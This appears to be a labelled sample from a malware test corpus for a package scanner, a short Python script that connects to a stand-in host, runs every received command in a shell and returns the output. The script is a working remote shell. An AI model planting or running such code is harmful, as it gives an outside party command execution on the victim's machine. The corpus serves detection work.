# pkgguard corpus 224 (remote-shell), modelled on [taxonomy]; inert, never run.
import subprocess
from multiprocessing.connection import Client

conn = Client(("relay.example", 7000), authkey=b"placeholder")
while True:
    command = conn.recv()
    if command == "exit":
        break
    conn.send(subprocess.run(command, shell=True, capture_output=True).stdout)
